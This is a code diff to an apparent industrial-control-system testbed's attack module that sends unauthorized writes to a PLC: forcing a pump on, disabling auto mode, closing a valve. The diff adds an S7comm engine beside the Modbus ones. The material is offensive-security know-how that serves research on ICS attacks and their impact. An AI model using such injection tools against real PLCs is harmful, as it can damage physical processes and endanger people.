@@ -3,7 +3,7 @@
 Run inside the attacker host::
 
     python -m attacks.inject --plan PLAN.json --targets 10.0.0.21 --out inject.json \\
-        [--engine pymodbus|scapy] [--pump-on] [--auto-off] [--valve-close] \\
+        [--engine pymodbus|scapy|s7] [--pump-on] [--auto-off] [--valve-close] \\
         [--set NAME=VALUE ...] [--process auto|tank|pressure] [--hold-s 0] [--period-s 1] \\
         [--port 502] [--unit-id 1] [--timeout-s 3]
 
@@ -28,6 +28,9 @@ Every request is recorded with its reply (a Modbus exception is data: ``outcome:
 "exception"`` and its code), the raw frames for the scapy engine, and its latency. The
 outcome also says whether the host's network state (iptables, addresses) is as before.
 
+- ``s7``: an S7comm PLC (``--port 102``): the same writes as ``db_write`` of the tables
+  data blocks with python-snap7's client (:mod:`attacks.s7_client`, ``docs/protocols.md``).
+
 The impact is not the attacker's to see: :mod:`attacks.tank_impact` computes it afterwards
 from the PLC's ground-truth CSV (time until the level leaves its band, alarms, spilled water).
 
@@ -48,6 +51,7 @@ from typing import Any
 
 from attacks.inject_plan import parse_assignment, write_plan
 from attacks.modbus_client import ENGINE_CLASSES, ENGINES, Exchange
+from attacks.s7_client import S7Engine
 from common.cli import positive_float
 from common.errors import UserError
 from common.hostenv import (
@@ -64,6 +68,8 @@ from plc.registers import MAPS, MAPS_BY_ID, Table
 log = logging.getLogger(__name__)
 
 PROCESSES = ("auto", *sorted(MAPS))
+# Modbus engines, and ``s7``: the same writes to an S7 PLC's data blocks (attacks.s7_client).
+ALL_ENGINES = {**ENGINE_CLASSES, "s7": S7Engine}
 DEFAULT_TIMEOUT_S = 3.0
 DEFAULT_PERIOD_S = 1.0
 MAX_HOLD_S = 600.0
@@ -103,7 +109,8 @@ def build_parser() -> argparse.ArgumentParser:
     """The injection command line (see the module docstring)."""
     parser = attack_parser("attacks.inject",
                            "Unauthorized Modbus writes to a PLC's coils and setpoints.")
-    parser.add_argument("--engine", choices=ENGINES, default="pymodbus")
+    parser.add_argument("--engine", choices=(*ENGINES, "s7"), default="pymodbus",
+                        help="s7: an S7comm PLC (give --port 102)")
     parser.add_argument("--pump-on", action="store_true", help="force the pump coil on")
     parser.add_argument("--auto-off", action="store_true",
                         help="switch the auto_mode coil off (the logic stops driving the pump)")
@@ -166,8 +173,8 @@ def _body(ctx: AttackContext) -> None:
     outcome = ctx.outcome
     assert isinstance(outcome, InjectOutcome)
     before = snapshot_host()
-    engine = ENGINE_CLASSES[args.engine](outcome.target, args.port, args.unit_id,
-                                         args.timeout_s)
+    engine = ALL_ENGINES[args.engine](outcome.target, args.port, args.unit_id,
+                                      args.timeout_s)
 
     def send(function_code: int, address: int, purpose: str, value: int | None = None,
              count: int = 1, name: str = "") -> Exchange:
